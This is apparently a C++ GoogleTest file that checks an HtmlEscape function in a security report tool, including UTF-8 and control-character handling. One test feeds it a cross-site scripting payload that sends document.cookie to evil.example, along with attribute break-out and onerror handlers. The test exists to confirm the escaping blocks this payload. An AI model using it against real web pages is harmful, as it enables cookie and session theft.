// The report's HTML quotes tags, CloudTrail fields and notes that an attacker may have chosen: what
// comes out of HtmlEscape must never open an element or leave a quoted attribute.
#include "report/html_escape.h"

#include <gtest/gtest.h>

namespace cordon::report {
namespace {

TEST(HtmlEscape, PlainTextIsUnchanged) {
  EXPECT_EQ(HtmlEscape("i-0abc 10.0.3.8 arn:aws:iam::123456789012:role/web"),
            "i-0abc 10.0.3.8 arn:aws:iam::123456789012:role/web");
  EXPECT_EQ(HtmlEscape("caf\xC3\xA9 \xE2\x9C\x93 \xF0\x9F\x94\x92"),
            "caf\xC3\xA9 \xE2\x9C\x93 \xF0\x9F\x94\x92");
}

TEST(HtmlEscape, HostileTagValueCannotOpenAnElementOrLeaveAnAttribute) {
  const std::string hostile =
      "web-1\"><script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>"
      "' onmouseover='x";
  const std::string out = HtmlEscape(hostile);
  EXPECT_EQ(out.find('<'), std::string::npos);
  EXPECT_EQ(out.find('>'), std::string::npos);
  EXPECT_EQ(out.find('"'), std::string::npos);
  EXPECT_EQ(out.find('\''), std::string::npos);
  EXPECT_EQ(out,
            "web-1&quot;&gt;&lt;script&gt;fetch(&#39;https://evil.example/&#39;+document.cookie)&lt;/"
            "script&gt;&lt;img src=x onerror=alert(1)&gt;&#39; onmouseover=&#39;x");
}

TEST(HtmlEscape, AmpersandIsEscapedFirstSoReferencesStayLiteral) {
  // A value that is itself an escaped tag must show as typed, not turn into a tag when rendered.
  EXPECT_EQ(HtmlEscape("&lt;b&gt; &amp; &#60;"), "&amp;lt;b&amp;gt; &amp;amp; &amp;#60;");
}

TEST(HtmlEscape, ControlCharactersAndBrokenUtf8BecomeReplacementCharacters) {
  const std::string r = "\xEF\xBF\xBD";
  EXPECT_EQ(HtmlEscape(std::string("a\0b", 3)), "a" + r + "b");
  EXPECT_EQ(HtmlEscape("\x1b[2Jgone\x7f"), r + "[2Jgone" + r);
  EXPECT_EQ(HtmlEscape("tab\tnew\nline"), "tab\tnew\nline");
  EXPECT_EQ(HtmlEscape("\xC2\x9B"), r);                   // C1 control (CSI)
  EXPECT_EQ(HtmlEscape("\xC0\xBC"), r + r);               // overlong '<'
  EXPECT_EQ(HtmlEscape("\xED\xA0\x80"), r + r + r);       // a UTF-16 surrogate
  EXPECT_EQ(HtmlEscape("cut \xE2\x9C"), "cut " + r + r);  // truncated sequence
  EXPECT_EQ(HtmlEscape("\xFF<"), r + "&lt;");
}

}  // namespace
}  // namespace cordon::report
